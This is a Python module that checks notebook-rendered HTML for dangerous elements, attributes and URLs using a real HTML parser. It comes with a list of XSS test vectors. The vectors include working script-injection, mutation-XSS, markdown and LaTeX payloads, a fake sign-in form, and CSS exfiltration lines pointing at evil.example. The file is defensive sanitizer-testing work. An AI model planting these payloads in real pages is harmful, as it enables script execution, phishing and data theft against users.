"""What must never be in HTML made from a notebook, told by a real HTML parser rather than by looking for strings."""

from __future__ import annotations

import html5lib

FORBIDDEN = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "select", "textarea", "link", "meta", "base",
    "svg", "video", "audio", "source", "track", "foreignObject", "annotation-xml", "template", "noscript", "frame", "h1",
    "frameset", "applet", "dialog", "portal", "slot", "marquee", "title", "html", "head", "body", "animate", "use", "maction",
}  # fmt: skip


def faults_of(html: str) -> list[str]:
    """Elements, attributes and addresses of a fragment that could run, load, post or restyle."""
    tree = html5lib.HTMLParser(namespaceHTMLElements=False).parseFragment(html)
    faults = []
    for element in tree.iter():
        if not isinstance(element.tag, str) or element.tag == "DOCUMENT_FRAGMENT":
            continue
        tag = element.tag.rpartition("}")[2]
        if tag in FORBIDDEN:
            faults.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = str(name).lower()
            if name.startswith("on") or name in (
                "style",
                "srcdoc",
                "action",
                "formaction",
                "background",
                "srcset",
                "ping",
            ):
                faults.append(f"{tag} {name}={value!r}")
            if name in ("href", "xlink:href") and not value.startswith(("#", "https://", "http://", "mailto:")):
                faults.append(f"{tag} {name}={value!r}")
            if name == "src" and not value.startswith("data:image/"):
                faults.append(f"{tag} {name}={value!r}")
    return faults


VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:x'>x</a><a href='//evil.example'>y</a><a href='\\\\evil.example'>z</a>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<p style='background:url(https://evil.example/?x)'>x</p>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<div title='\n\n```\n\"><img src=x onerror=alert(1)>\n```\n'>",
    "<div title=\"\n\n$\\text{\"><img src=x onerror=alert(1)>}$\n\n\">",
    "$\\href{javascript:alert(1)}{x}$ $\\style{background:url(//evil.example)}{x}$ $\\text{<script>alert(1)</script>}$",
    "$$\\text{<img src=x onerror=alert(1)>}$$",
    "\\begin{align}\\text{<svg onload=alert(1)>}\\end{align}",
    "[x](javascript:alert(1)) [y](data:text/html,x) ![z](javascript:alert(1)) ![w](https://evil.example/p.png)",
    "<javascript:alert(1)> [a][1]\n\n[1]: javascript:alert(1)",
    "```\"><img src=x onerror=alert(1)>\nx\n```",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio autoplay src=x>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<h1>Sign in again</h1><dialog open>x</dialog>",
    "<x onclick=alert(1)>x</x><custom-element></custom-element>",
    "<a id=main name=csrf_token>clobber</a>",
]  # fmt: skip
